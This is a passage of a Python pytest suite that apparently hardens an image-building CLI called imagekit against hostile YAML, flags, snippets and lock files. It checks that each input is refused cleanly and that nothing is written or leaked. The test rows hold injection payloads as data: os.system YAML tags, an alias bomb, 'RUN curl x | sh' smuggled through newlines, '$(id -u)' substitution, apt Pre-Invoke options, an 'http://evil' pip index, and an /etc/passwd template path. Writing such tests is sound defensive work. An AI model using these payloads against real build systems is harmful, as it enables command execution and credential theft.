"""Hostile inputs: every file and flag imagekit reads is untrusted.

Each row of the tables below feeds the CLI one bad input (a matrix or overlay, a snippet, a flag, a
lock file) in a throwaway workspace and proves the contract for bad input:

- exit 2, returned from ``main`` (it never raises), and no ``Traceback`` anywhere;
- one ``ERROR`` on stderr naming ``/abs/path/file:LINE`` and the dotted field that set the value,
  the overlay's own line when an overlay set it;
- nothing written: every file under the temporary root is byte-for-byte the same afterwards
  (``--out`` folders and the lock file included);
- no secret from the input or the environment, and nothing read from outside the project, shows
  up in the output or in any file;
- it finishes: the cases that could hang (alias bombs, huge format widths) run in a child process
  (forked: marked `subprocess`) with a 20 s timeout and a 4 GiB address-space limit, so a hang
  fails the test instead of CI.

The positive controls at the top prove the workspace itself is valid: it validates, renders, and
its lock is current, so each failing row fails for its one hostile value.
"""

from __future__ import annotations

import dataclasses
import errno
import inspect
import io
import json
import os
import re
import resource
import shutil
import signal
import sys
import tempfile
import time
import traceback
import warnings
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import dockerfile
import pytest
import yaml

from imagekit.cli import main

ROOT = Path(__file__).resolve().parent.parent.parent
TIMEOUT = 20  # seconds, for the cases that could hang
MEMORY = 4 << 30  # bytes of address space, for the same cases

BASE_ID = "2.6.0-cu121-py3.11-runtime"
EXT_ID = f"{BASE_ID}-tracking"
SECRET_ENV = "s3cret-from-the-environment"  # IMAGEKIT_REGISTRY_PASSWORD, set for every test

# The valid matrix every row starts from. Line numbers matter to the rows that edit it in place.
MATRIX = """\
repository: hostile/pytorch
torch: {version: "2.6.0", torchaudio: "2.6.0"}
python: "3.11"
flavors: [runtime]
variants:
  cu121: {cuda: "12.1.1", wheel: cu124}
packages: ["numpy==2.2.6", "pytest==8.3.5"]
extensions:
  tracking:
    parent: runtime
    packages: ["tensorboardX==2.6.2.2"]
    apt: [git]
    env: {TRACKING_LOGDIR: /opt/runs}
    template: ext/snippet.Dockerfile.j2
    tests: ext/tests
"""
SNIPPET = 'RUN echo "{{ image.id }} extends {{ image.parent }}" > /etc/imagekit-extension\n'
CANARY = "{{ 7*7 }}LEAK\n"  # rendered, it reads 49LEAK
LEAKED = "49LEAK"


# --------------------------------------------------------------------------------------------------
# The workspace, the snapshot, and running the CLI


@dataclass
class Workspace:
    root: Path  # tmp_path: everything under it is snapshotted
    project: Path
    outside: Path

    @property
    def matrix(self) -> Path:
        return self.project / "matrix.yaml"

    @property
    def lock(self) -> Path:
        return self.project / "matrix.lock"  # the default: the last matrix file with .lock

    @property
    def out(self) -> Path:
        return self.project / "out"

    def overlay(self, text: str, name: str = "hostile.yaml") -> Path:
        path = self.project / name
        path.write_text(text, encoding="utf-8")
        return path

    def files(self, files: dict[str, str]) -> None:
        for rel, text in files.items():
            path = self.project / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")


def make_workspace(root: Path) -> Workspace:
    project, outside = root / "project", root / "outside"
    (project / "ext" / "tests").mkdir(parents=True)
    (project / "smoke").mkdir()
    shutil.copytree(ROOT / "templates", project / "templates")  # the product's, on purpose: what ships must hold
    (project / "matrix.yaml").write_text(MATRIX)
    (project / "ext" / "snippet.Dockerfile.j2").write_text(SNIPPET)
    (project / "ext" / "tests" / "test_tracking.py").write_text("def test_tracking():\n    assert True\n")
    (project / "smoke" / "conftest.py").write_text("")
    (project / "smoke" / "test_x.py").write_text("def test_x():\n    assert True\n")
    # Canaries: nothing here may ever be read into a render, and no path may lead here.
    (outside / "tests").mkdir(parents=True)
    (outside / "secret.j2").write_text(CANARY)
    (outside / "Dockerfile.j2").write_text(CANARY)
    (outside / "Extension.Dockerfile.j2").write_text(CANARY)
    (outside / "tests" / "test_out.py").write_text("def test_out():\n    assert True\n")
    return Workspace(root, project, outside)


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    for variable in ("IMAGEKIT_MATRIX", "IMAGEKIT_ONLY", "IMAGEKIT_LOCK", "PIP_INDEX_URL"):
        monkeypatch.delenv(variable, raising=False)
    monkeypatch.setenv("IMAGEKIT_REGISTRY_PASSWORD", SECRET_ENV)
    workspace = make_workspace(tmp_path)
    monkeypatch.chdir(workspace.project)
    return workspace


def snapshot(root: Path) -> dict[str, Any]:
    """Every path under ``root`` → its bytes, "dir", or ("link", target)."""
    tree: dict[str, Any] = {}
    for dirpath, dirnames, filenames in os.walk(root):
        for name in dirnames + filenames:
            path = Path(dirpath) / name
            rel = path.relative_to(root).as_posix()
            if path.is_symlink():
                tree[rel] = ("link", os.readlink(path))
            elif path.is_dir():
                tree[rel] = "dir"
            else:
                tree[rel] = path.read_bytes()
    return tree


def changes(before: dict[str, Any], after: dict[str, Any]) -> list[str]:
    return (
        [f"created {p}" for p in sorted(after.keys() - before.keys())]
        + [f"removed {p}" for p in sorted(before.keys() - after.keys())]
        + [f"changed {p}" for p in sorted(before.keys() & after.keys()) if before[p] != after[p]]
    )


@dataclass
class Run:
    argv: list[str]
    rc: int | None
    out: str
    err: str
    raised: BaseException | None = None
    timed_out: bool = False

    @property
    def text(self) -> str:
        return self.out + self.err

    def __str__(self) -> str:
        what = "timed out" if self.timed_out else f"raised {type(self.raised).__name__}" if self.raised else f"exit {self.rc}"
        return f"`imagekit {' '.join(a if len(a) < 80 else a[:40] + '…' for a in self.argv)}`: {what}; stderr: {self.err[-600:]!r}"


def cli(capsys: pytest.CaptureFixture[str], *argv: str) -> Run:
    """``imagekit ARGV`` in this process; whatever it raises is recorded, not propagated."""
    handler = signal.getsignal(signal.SIGTERM)  # main() installs its own; give pytest its back
    raised: BaseException | None = None
    rc: int | None = None
    try:
        rc = main(list(argv))
    except BaseException as exc:  # noqa: BLE001 - the contract is that main returns, whatever the input
        raised = exc
    finally:
        signal.signal(signal.SIGTERM, handler)
    captured = capsys.readouterr()
    return Run(list(argv), rc, captured.out, captured.err, raised)


def _limit_memory() -> None:
    resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))


def cli_isolated(cwd: Path, *argv: str) -> Run:
    """``imagekit ARGV`` in a child process that must finish within TIMEOUT, in MEMORY of address
    space; killed otherwise. The child is forked from this process, where imagekit is imported
    already: `main(argv)` as `python -m imagekit` runs it, without an interpreter to start (that
    took ~0.5 s a case). Its stdout and stderr go to files outside the snapshotted root."""
    with tempfile.TemporaryFile() as out, tempfile.TemporaryFile() as err:
        with warnings.catch_warnings():  # Python >= 3.12 warns about forking beside threads (xdist's)
            warnings.simplefilter("ignore", DeprecationWarning)
            pid = os.fork()
        if pid == 0:  # the child: whatever happens, it ends here and never returns into pytest
            code = 1
            try:
                os.chdir(cwd)
                _limit_memory()
                os.dup2(out.fileno(), 1)
                os.dup2(err.fileno(), 2)
                sys.stdout, sys.stderr = (
                    io.TextIOWrapper(io.FileIO(fd, "w", closefd=False), encoding="utf-8", errors="backslashreplace", write_through=True)
                    for fd in (1, 2)
                )
                code = main(list(argv))
            except BaseException:  # noqa: BLE001 - as the interpreter would: the traceback on stderr, exit 1
                traceback.print_exc()
            finally:
                os._exit(code if isinstance(code, int) else 1)
        deadline = time.monotonic() + TIMEOUT
        while not (status := os.waitpid(pid, os.WNOHANG))[0] and time.monotonic() < deadline:
            time.sleep(0.005)
        timed_out = not status[0]
        if timed_out:
            os.kill(pid, signal.SIGKILL)
            status = os.waitpid(pid, 0)
        out.seek(0)
        err.seek(0)
        texts = [f.read().decode(errors="replace") for f in (out, err)]
    return Run(list(argv), None if timed_out else os.waitstatus_to_exitcode(status[1]), *texts, timed_out=timed_out)


def isolating(rows: list[Any], isolated: Callable[[tuple[Any, ...]], bool]) -> list[Any]:
    """``rows`` (pytest.param), those that run `imagekit` through ``cli_isolated`` marked `subprocess`:
    they could hang or exhaust memory in C code that no in-process timeout interrupts, so they run
    in a child process under TIMEOUT and MEMORY (tests/unit/conftest.py blocks processes otherwise)."""
    return [pytest.param(*r.values, marks=[*r.marks, pytest.mark.subprocess], id=r.id) if isolated(r.values) else r for r in rows]


def refusal_problems(
    run: Run,
    *,
    file: Path | None = None,
    line: int | None = None,
    field: str | None = None,
    any_line: bool = False,
    or_at: str | None = None,
    secrets: tuple[str, ...] = (),
) -> list[str]:
    """What is wrong with ``run`` as a refusal of bad input; [] when it is one.

    ``file``/``line``/``field``: the locator the ERROR must carry, as ``file:line: field``;
    ``any_line``: some line of ``file`` (``file:N``) when the exact one is not fixed by the spec;
    ``or_at``: another locator that will do instead (a snippet's own ``/abs/file:LINE``)."""
    found: list[str] = []
    if run.timed_out:
        return [f"{run}: did not finish within {TIMEOUT}s"]
    if run.raised is not None:
        found.append(f"main raised {type(run.raised).__name__}: {str(run.raised)[:200]!r} instead of returning 2")
    elif run.rc != 2:
        found.append(f"exit {run.rc}, expected 2")
    if "Traceback" in run.text:
        found.append("a Traceback was printed")
    errors = [ln for ln in run.err.splitlines() if ln.startswith("ERROR")]
    if len(errors) != 1:
        found.append(f"{len(errors)} ERROR lines on stderr, expected 1")
    if file is not None:
        if line is not None:
            needle = f"{file}:{line}: {field}" if field else f"{file}:{line}"
            if needle not in run.err and not (or_at and or_at in run.err):
                found.append(f"stderr does not say {needle!r}" + (f" (nor {or_at!r})" if or_at else ""))
        else:
            if not re.search(re.escape(str(file)) + (r":\d+" if any_line else ""), run.err):
                found.append(f"stderr does not name {file}" + (":LINE" if any_line else ""))
            if field and field not in run.err:
                found.append(f"stderr does not name the field {field!r}")
    for secret in (*secrets, SECRET_ENV):
        if secret in run.text:
            found.append(f"the output shows the secret {secret!r}")
    return [f"{run}: {p}" if i == 0 else f"    {p}" for i, p in enumerate(found)]


def leaks(before: dict[str, Any], after: dict[str, Any], runs: list[Run], canaries: tuple[str, ...]) -> list[str]:
    """Canary strings (things read from outside, secrets) found in any output or written file."""
    found = []
    written = {p: v for p, v in after.items() if isinstance(v, bytes) and before.get(p) != v}
    for canary in (*canaries, SECRET_ENV):
        for run in runs:
            if canary in run.text:
                found.append(f"{canary!r} appears in the output of {run}")
        for path, data in written.items():
            if canary.encode() in data:
                found.append(f"{canary!r} appears in the written file {path}")
    return found


# --------------------------------------------------------------------------------------------------
# Dockerfile instructions


def instructions(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(c.cmd, tuple(c.value)) for c in dockerfile.parse_string(text)]


def rendered(out: Path) -> dict[str, list[tuple[str, tuple[str, ...]]]]:
    return {d.name: instructions((d / "Dockerfile").read_text()) for d in sorted(out.iterdir()) if (d / "Dockerfile").is_file()}


def unquote(value: str) -> str:
    """A double-quoted Dockerfile word → its value (backslash escapes the next character)."""
    if len(value) >= 2 and value[0] == value[-1] == '"':
        return re.sub(r"\\(.)", r"\1", value[1:-1], flags=re.DOTALL)
    return value


def env_pairs(instrs: list[tuple[str, tuple[str, ...]]]) -> list[tuple[int, str, str]]:
    """(instruction index, name, value) of every ENV assignment."""
    pairs = []
    for i, (cmd, value) in enumerate(instrs):
        if cmd == "ENV":
            pairs += [(i, value[j], unquote(value[j + 1])) for j in range(0, len(value) - 1, 2)]
    return pairs


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> dict[str, list[tuple[str, tuple[str, ...]]]]:
    """The instructions of the valid workspace's Dockerfiles, per image id."""
    workspace = make_workspace(tmp_path_factory.mktemp("baseline"))
    handler = signal.getsignal(signal.SIGTERM)
    try:
        assert main(["render", "--matrix", str(workspace.matrix), "--out", str(workspace.out)]) == 0
    finally:
        signal.signal(signal.SIGTERM, handler)
    return rendered(workspace.out)


def instruction_drift(out: Path, baseline: dict[str, list[tuple[str, tuple[str, ...]]]]) -> list[str]:
    """When a hostile value was rendered anyway: how the instruction sequence differs from the valid render."""
    if not out.is_dir():
        return []
    try:
        now = rendered(out)
    except dockerfile.GoParseError as exc:
        return [f"    rendered anyway, a Dockerfile that does not even parse: {exc}"]
    found = []
    for image_id, instrs in now.items():
        want = [cmd for cmd, _ in baseline.get(image_id, [])]
        got = [cmd for cmd, _ in instrs]
        if got != want:
            found.append(f"    rendered {image_id} anyway, with instructions {got} instead of {want}")
    return found


# --------------------------------------------------------------------------------------------------
# The lock file


def hashed(*pins: str) -> str:
    """A `pip install --require-hashes` text, one package per pin."""
    return "".join(f"{p} \\\n    --hash=sha256:{(p.encode().hex() * 8)[:64]}\n" for p in pins)


BASE_PINS = ("numpy==2.2.6", "pytest==8.3.5", "torch==2.6.0", "torchaudio==2.6.0")
EXT_APT = ["git-man=1:2.39.5-0+deb12u3", "git=1:2.39.5-0+deb12u3", "perl-modules-5.36=5.36.0-7+deb12u3"]


class _LockDumper(yaml.SafeDumper):
    pass


# Requirement sets as literal blocks, as `imagekit lock` writes them (PyYAML falls back to quotes
# where a block cannot hold the text).
_LockDumper.add_representer(str, lambda d, v: d.represent_scalar("tag:yaml.org,2002:str", v, style="|" if "\n" in v else None))


def lock_text(data: dict[str, Any]) -> str:
    return yaml.dump(data, Dumper=_LockDumper, sort_keys=False, width=200, allow_unicode=True)


def valid_lock(ws: Workspace) -> dict[str, Any]:
    """Write a lock that is current for the workspace and return it as plain data to edit.

    Written by imagekit's own Lock API, so its schema and hashes (which grow as the hardening
    goes on) are whatever this imagekit expects: only the pins are made up here."""
    from imagekit.core.lock import Lock, Locked
    from imagekit.core.matrix import load_matrix

    matrix = load_matrix([ws.matrix])
    lock = Lock(ws.lock)
    pinned = {
        BASE_ID: Locked("", "sha256:" + "ab" * 32, hashed(*BASE_PINS), {}),
        EXT_ID: Locked("", None, hashed(*BASE_PINS, "tensorboardx==2.6.2.2"), {"extension": list(EXT_APT)}),
    }
    lock.images.update({image.id: pinned[image.id] for image in matrix.images})
    # Lock.inputs(image) or, since the hash covers the templates too, Lock.inputs(image, matrix);
    # and, where the lock records it apart, what the pins were resolved from.
    extra = [matrix] if "matrix" in inspect.signature(lock.inputs).parameters else []
    has_resolution = "resolved_from" in {f.name for f in dataclasses.fields(Locked)}
    for image in matrix.images:  # parents first: an extension's hashes cover its parent's pins
        hashes = {"inputs": lock.inputs(image, *extra)}
        if has_resolution:
            hashes["resolved_from"] = lock.resolution(image)
        lock.images[image.id] = dataclasses.replace(lock.images[image.id], **hashes)
    lock.write(matrix.files)
    return yaml.safe_load(ws.lock.read_text())


# ==================================================================================================
# 0. Positive controls: the workspace is valid, so every row below fails for its one hostile value.


def test_control_valid_workspace_validates_and_renders(ws: Workspace, capsys: pytest.CaptureFixture[str], baseline):
    ok = cli(capsys, "matrix", "validate", "--matrix", str(ws.matrix))
    assert ok.rc == 0, str(ok)
    run = cli(capsys, "render", "--matrix", str(ws.matrix), "--out", str(ws.out))
    assert run.rc == 0, str(run)
    got = rendered(ws.out)
    assert got == baseline and sorted(got) == [BASE_ID, EXT_ID]
    ext = got[EXT_ID]
    assert [cmd for cmd, _ in ext][:2] == ["ARG", "FROM"] and ext[-2:] == [("USER", ("1000",)), ("WORKDIR", ("/home/imagekit",))]
    assert [(name, value) for _, name, value in env_pairs(ext) if name == "TRACKING_LOGDIR"] == [("TRACKING_LOGDIR", "/opt/runs")]


def test_control_env_value_with_quotes_backslashes_dollars_and_spaces_stays_one_value(
    ws: Workspace, capsys: pytest.CaptureFixture[str], baseline
):
    value = 'say "hi" \\ $HOME and  two spaces\\'
    overlay = ws.overlay(f"extensions:\n  tracking:\n    env: {{TRACKING_LOGDIR: {json.dumps(value)}}}\n")
    run = cli(capsys, "render", "--matrix", str(ws.matrix), "--matrix", str(overlay), "--out", str(ws.out))
    assert run.rc == 0, str(run)
    got, want = rendered(ws.out)[EXT_ID], baseline[EXT_ID]
    assert [cmd for cmd, _ in got] == [cmd for cmd, _ in want], "same instruction sequence"
    carrying = [(i, name, v) for i, name, v in env_pairs(got) if name == "TRACKING_LOGDIR"]
    assert [(name, v) for _, name, v in carrying] == [("TRACKING_LOGDIR", value)], "one ENV carries the value, intact"
    (index, _, _) = carrying[0]
    assert got[:index] + got[index + 1 :] == want[:index] + want[index + 1 :], "every other instruction unchanged"


def test_control_valid_lock_is_current_and_renders_its_requirements(ws: Workspace, capsys: pytest.CaptureFixture[str]):
    data = valid_lock(ws)
    check = cli(capsys, "lock", "--check", "--matrix", str(ws.matrix))
    assert check.rc == 0, str(check)
    run = cli(capsys, "render", "--matrix", str(ws.matrix), "--out", str(ws.out))
    assert run.rc == 0, str(run)
    assert (ws.out / EXT_ID / "requirements.txt").read_text() == data["images"][EXT_ID]["requirements"]
    assert (ws.out / EXT_ID / "apt-extension.txt").read_text().splitlines() == data["images"][EXT_ID]["apt"]["extension"]


# ==================================================================================================
# 1. YAML level: the matrix file itself is hostile. Each row: the file's bytes, the line the error
#    must name (None: the file is enough), and whether it could hang (then: subprocess, timeout).


def _matrix_with(line_no: int, new: str) -> bytes:
    lines = MATRIX.splitlines(keepends=True)
    lines[line_no - 1] = new
    return "".join(lines).encode()


BILLION_LAUGHS = (
    'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]\n'
    + "".join(f"{n}: &{n} [{','.join([f'*{p}'] * 9)}]\n" for p, n in zip("abcdefg", "bcdefgh", strict=True))
    + f"packages: [{','.join(['*h'] * 9)}]\n"
)
assert len(BILLION_LAUGHS) < 500 and BILLION_LAUGHS.count("&") == 8  # 9 levels: 9**9 strings

YAML_CASES = [
    pytest.param(MATRIX.encode().replace(b"hostile/pytorch", b"hostile/py\xff\xfetorch"), None, False, id="not-utf8"),
    pytest.param(_matrix_with(1, "repository: !!python/name:os.system\n"), 1, False, id="tag-python-name-os-system"),
    pytest.param(_matrix_with(4, 'flavors: !!python/object/apply:os.system ["runtime"]\n'), 4, False, id="tag-python-object-apply"),
    pytest.param(_matrix_with(1, "repository: !custom foo\n"), 1, False, id="tag-custom-on-scalar"),
    pytest.param(MATRIX.encode() + b"user: !custom {name: imagekit}\n", 16, False, id="tag-custom-on-mapping"),
    pytest.param(_matrix_with(7, "packages: " + "[" * 1000 + "]" * 1000 + "\n"), None, False, id="list-nested-1000-deep"),
    pytest.param(BILLION_LAUGHS.encode(), None, True, id="alias-bomb"),
    pytest.param(b"", None, False, id="empty-file"),
    pytest.param(b"- repository: hostile/pytorch\n- python: '3.11'\n", 1, False, id="top-level-list"),
    pytest.param(MATRIX.encode() + b'python: "3.12"\n', 16, False, id="duplicate-key"),
    pytest.param(_matrix_with(3, "python: 0x" + "f" * 4000 + "\n"), 3, False, id="hex-int-beyond-python-digit-limit"),
    pytest.param(
        ("x:\n" + "".join(f"  - &a{i} [*a{i - 1}]\n" if i else "  - &a0 [1]\n" for i in range(600))).encode(),
        None,
        False,
        id="alias-chain-600-deep",
    ),
    pytest.param(b'"x\\n::error file=README.md::forged": 1\n', 1, False, id="key-with-newline-forging-a-log-line"),
]


@pytest.mark.parametrize(("content", "line", "hang"), isolating(YAML_CASES, lambda row: row[2]))
def test_yaml_level(ws: Workspace, capsys: pytest.CaptureFixture[str], content: bytes, line: int | None, hang: bool):
    ws.matrix.write_bytes(content)
    before = snapshot(ws.root)
    argv = ["matrix", "validate", "--matrix", str(ws.matrix)]
    run = cli_isolated(ws.project, *argv) if hang else cli(capsys, *argv)
    found = refusal_problems(run, file=ws.matrix, line=line)
    found += [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)


# ==================================================================================================
# 2. Schema: well-formed YAML, values out of range. Each row is an overlay; the error must name the
#    overlay's line and the field.

HUGE = "1" + "0" * 399  # 400 digits
SCHEMA_CASES = [
    pytest.param(f'size_budgets:\n  "*": {HUGE}\n', 2, "size_budgets.*", False, id="size-budget-400-digit-int"),
    pytest.param(f'size_budgets:\n  "*": "{HUGE}GB"\n', 2, "size_budgets.*", False, id="size-budget-400-digit-string-GB"),
    pytest.param('ci:\n  driver_label: "{branch:>999999999}"\n', 2, "ci.driver_label", True, id="driver-label-huge-width"),
    pytest.param('ci:\n  driver_label: "{branch.__class__}"\n', 2, "ci.driver_label", False, id="driver-label-attribute"),
    pytest.param('ci:\n  driver_label: "{0}"\n', 2, "ci.driver_label", False, id="driver-label-positional"),
    pytest.param(
        f'variants:\n  cu121: null\n  {"v" * 250}: {{cuda: "12.1.1", wheel: cu124}}\n',
        3,
        "variants." + "v" * 250,
        False,
        id="variant-name-250-chars",
    ),
    # 2.6.0-<110>-py3.11-runtime is 131 characters: over Docker's 128 for a tag.
    pytest.param(
        f'variants:\n  cu121: null\n  {"v" * 110}: {{cuda: "12.1.1", wheel: cu124}}\n',
        3,
        "variants." + "v" * 110,
        False,
        id="variant-name-110-chars-tag-over-128",
    ),
    pytest.param(
        f"extensions:\n  tracking:\n    env: {{TRACKING_LOGDIR: {'x' * 70_000}}}\n",
        3,
        "extensions.tracking.env.TRACKING_LOGDIR",
        False,
        id="env-value-70000-chars",
    ),
    pytest.param("user:\n  uid: 0\n", 2, "user.uid", False, id="uid-0"),
    pytest.param("user:\n  uid: -1\n", 2, "user.uid", False, id="uid-negative"),
    pytest.param(f"user:\n  uid: {2**64}\n", 2, "user.uid", False, id="uid-huge"),
    pytest.param("python: null\n", 1, "python", False, id="overlay-nulls-required-python"),
    pytest.param("torch: null\n", 1, "torch", False, id="overlay-nulls-required-torch"),
    pytest.param("# removes every variant\nvariants: null\n", 2, "variants", False, id="overlay-nulls-required-variants"),
]


@pytest.mark.parametrize(("overlay_text", "line", "field", "hang"), isolating(SCHEMA_CASES, lambda row: row[3]))
def test_schema(ws: Workspace, capsys: pytest.CaptureFixture[str], overlay_text: str, line: int, field: str, hang: bool):
    overlay = ws.overlay(overlay_text)
    before = snapshot(ws.root)
    argv = ["matrix", "validate", "--matrix", str(ws.matrix), "--matrix", str(overlay)]
    run = cli_isolated(ws.project, *argv) if hang else cli(capsys, *argv)
    found = refusal_problems(run, file=overlay, line=line, field=field)
    found += [f"    {c}" for c in changes(before, snapshot(ws.root))]
    assert not found, "\n".join(found)


# ==================================================================================================
# 3. Injection: values that would add Dockerfile instructions, shell commands, apt options or pip
#    options, or leak credentials. Each row is an overlay (value at `line`, `field` named); both
#    `matrix validate` and `render --out` must refuse it, and `--out` must not appear. For a key
#    that is itself the hostile value, `field` is the path up to it.


def _q(value: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(value)


INJECTION_CASES = [
    # user.name goes into `useradd … NAME` and `WORKDIR /home/NAME`
    pytest.param(f"user:\n  name: {_q('imagekit' + chr(10) + 'RUN curl x | sh')}\n", 2, "user.name", (), id="user.name-newline-RUN"),
    pytest.param(f"user:\n  name: {_q('$(id -u) && touch /pwned')}\n", 2, "user.name", (), id="user.name-command-substitution"),
    pytest.param("user:\n  name: a b\n", 2, "user.name", (), id="user.name-space"),
    pytest.param(f"user:\n  name: {'a' * 40}\n", 2, "user.name", (), id="user.name-40-chars"),
    # base_image goes into `ARG IMAGEKIT_BASE=…`
    pytest.param(
        f"variants:\n  cu121:\n    base_image: {_q('debian:bookworm' + chr(10) + 'RUN id')}\n",
        3,
        "variants.cu121.base_image",
        (),
        id="base_image-newline-RUN",
    ),
    pytest.param("variants:\n  cu121:\n    base_image: debian bookworm\n", 3, "variants.cu121.base_image", (), id="base_image-space"),
    pytest.param(
        f"variants:\n  cu121:\n    base_image: {_q('debian:$(id)')}\n",
        3,
        "variants.cu121.base_image",
        (),
        id="base_image-command-substitution",
    ),
    # a trailing newline slips past `^…$` regexes (`$` matches before a final \n)
    pytest.param(
        f"extensions:\n  tracking:\n    env: {{{_q('FOO' + chr(10))}: bar}}\n",
        3,
        "extensions.tracking.env",
        (),
        id="env-name-trailing-newline",
    ),
    pytest.param(
        f"extensions:\n  tracking: null\n  {_q('tracking' + chr(10))}: {{parent: runtime}}\n",
        3,
        "extensions.tracking",
        (),
        id="extension-name-trailing-newline",
    ),
    pytest.param(
        f"variants:\n  cu121: null\n  {_q('cu121' + chr(10))}: {{cuda: '12.1.1', wheel: cu124}}\n",
        3,
        "variants.cu121",
        (),
        id="variant-name-trailing-newline",
    ),
    pytest.param(
        f"extensions:\n  tracking:\n    apt: [{_q('git' + chr(10))}]\n", 3, "extensions.tracking.apt.0", (), id="apt-trailing-newline"
    ),
    pytest.param(f"repository: {_q('hostile/pytorch' + chr(10))}\n", 1, "repository", (), id="repository-trailing-newline"),
    pytest.param(
        f"extensions:\n  tracking:\n    repository: {_q('hostile/tracking' + chr(10))}\n",
        3,
        "extensions.tracking.repository",
        (),
        id="extension-repository-trailing-newline",
    ),
    pytest.param(
        f"variants:\n  cu121:\n    cuda: {_q('12.1.1' + chr(10))}\n    base_image: debian:bookworm\n",
        3,
        "variants.cu121.cuda",
        (),
        id="cuda-trailing-newline",
    ),
    pytest.param(
        f"variants:\n  cu121:\n    driver: {_q('550.54.15' + chr(10))}\n", 3, "variants.cu121.driver", (), id="driver-trailing-newline"
    ),
    pytest.param(f"packages: [{_q('numpy==2.2.6' + chr(10))}, pytest==8.3.5]\n", 1, "packages.0", (), id="package-trailing-newline"),
    pytest.param('packages: ["numpy==2.2.6 --index-url http://evil", pytest==8.3.5]\n', 1, "packages.0", (), id="package-with-pip-option"),
    pytest.param(
        f"extensions:\n  tracking:\n    packages: [{_q('tensorboardX==2.6.2.2' + chr(10))}]\n",
        3,
        "extensions.tracking.packages.0",
        (),
        id="extension-package-trailing-newline",
    ),
    pytest.param(f"registry: {_q('registry.example/ml' + chr(10))}\n", 1, "registry", (), id="registry-trailing-newline"),
    pytest.param(f"ci:\n  runs_on: [{_q('self-hosted' + chr(10))}]\n", 2, "ci.runs_on.0", (), id="ci-runs_on-trailing-newline"),
    pytest.param(
        f"ci:\n  driver_label: {_q('nvidia-{branch}' + chr(10))}\n", 2, "ci.driver_label", (), id="ci-driver_label-trailing-newline"
    ),
    # env values go into `ENV NAME="value"`
    *[
        pytest.param(
            f"extensions:\n  tracking:\n    env: {{TRACKING_LOGDIR: {_q('/opt/runs' + ch + 'RUN id')}}}\n",
            3,
            "extensions.tracking.env.TRACKING_LOGDIR",
            (),
            id=f"env-value-{name}",
        )
        for name, ch in [("LF", "\n"), ("CR", "\r"), ("NUL", "\x00"), ("ESC", "\x1b"), ("VT", "\x0b")]
    ],
    # apt names go into `xargs apt-get install` as words
    *[
        pytest.param(f"extensions:\n  tracking:\n    apt: [{_q(pkg)}]\n", 3, "extensions.tracking.apt.0", (), id=f"apt-{name}")
        for name, pkg in [
            ("dpkg-pre-invoke", "git -o DPkg::Pre-Invoke::=id"),
            ("leading-option", "-oAPT::foo=1"),
            ("pinned-then-option", "git=1:2.39.5-0+deb12u3 -o DPkg::Pre-Invoke::=id"),
        ]
    ],
    # credentials belong in the environment (${VAR}), never in files, and are never echoed
    pytest.param(
        'indexes:\n  cu124: "https://user:hunter2@pypi.example/simple"\n', 2, "indexes.cu124", ("hunter2",), id="index-with-password"
    ),
    pytest.param('registry: "user:hunter2@registry.example/ml"\n', 1, "registry", ("hunter2",), id="registry-with-password"),
    pytest.param(
        'indexes:\n  cu124: "http://${IMAGEKIT_REGISTRY_PASSWORD}@127.0.0.1:9/simple"\n',
        2,
        "indexes.cu124",
        (SECRET_ENV,),
        id="index-naming-another-secret",
    ),
    pytest.param(
        'indexes:\n  cu124: "https://${IMAGEKIT_INDEX_USER}:${IMAGEKIT_INDEX_TOKEN:-hunter2}@pypi.example/simple"\n',
        2,
        "indexes.cu124",
        ("hunter2",),
        id="index-password-as-a-default",
    ),
    pytest.param(
        'indexes:\n  cu124: "https://pypi.example/${IMAGEKIT_INDEX_TOKEN}/simple"\n', 2, "indexes.cu124", (), id="index-variable-in-path"
    ),
    pytest.param(f"source: {_q('https://git.example/ml.git' + chr(10) + 'RUN id')}\n", 1, "source", (), id="source-newline"),
]


@pytest.mark.parametrize(("overlay_text", "line", "field", "secrets"), INJECTION_CASES)
def test_injection(ws: Workspace, capsys, baseline, overlay_text: str, line: int, field: str, secrets: tuple[str, ...]):
    overlay = ws.overlay(overlay_text)
    before = snapshot(ws.root)
    matrices = ["--matrix", str(ws.matrix), "--matrix", str(overlay)]
    validate = cli(capsys, "matrix", "validate", *matrices)
    render = cli(capsys, "render", *matrices, "--out", str(ws.out))
    after = snapshot(ws.root)
    found = refusal_problems(validate, file=overlay, line=line, field=field, secrets=secrets)
    found += refusal_problems(render, file=overlay, line=line, field=field, secrets=secrets)
    found += instruction_drift(ws.out, baseline)
    found += [f"    {c}" for c in changes(before, after)]
    found += leaks(before, after, [validate, render], secrets)
    assert not found, "\n".join(found)


# ==================================================================================================
# 4. Paths and templates: nothing outside the project is read, and a snippet is a template of the
#    matrix's values, not a way to run Python. Each row is an overlay (value at `line`, `field`
#    named) plus files and symlinks it needs in the project, and what a leak would look like.


@dataclass(frozen=True)
class PathCase:
    overlay: str
    field: str
    line: int = 3
    files: tuple[tuple[str, str], ...] = ()  # (path in the project, text)
    links: tuple[tuple[str, str], ...] = ()  # (path in the project, symlink target)
    canaries: tuple[str, ...] = ()
    validate: bool = True  # a path is a matrix problem; a snippet is only evaluated by `render`
    isolated: bool = False  # the snippet would run code: keep that out of the test process
    snippet_line: int | None = None  # the snippet's own file:line names the problem as well as the field does


HOSTILE_SNIPPET = "ext/hostile.Dockerfile.j2"
USE_HOSTILE_SNIPPET = f"extensions:\n  tracking:\n    template: {HOSTILE_SNIPPET}\n"


def _template(path: str, *canaries: str, links: tuple[tuple[str, str], ...] = ()) -> PathCase:
    return PathCase(f"extensions:\n  tracking:\n    template: {path}\n", "extensions.tracking.template", links=links, canaries=canaries)


def _snippet(text: str, *canaries: str, isolated: bool = False) -> PathCase:
    return PathCase(
        USE_HOSTILE_SNIPPET,
        "extensions.tracking.template",
        files=((HOSTILE_SNIPPET, text),),
        canaries=canaries,
        validate=False,
        isolated=isolated,
        snippet_line=1,
    )


PATH_CASES = [
    pytest.param(_template("/etc/passwd", "root:x:0:0"), id="template-absolute-etc-passwd"),
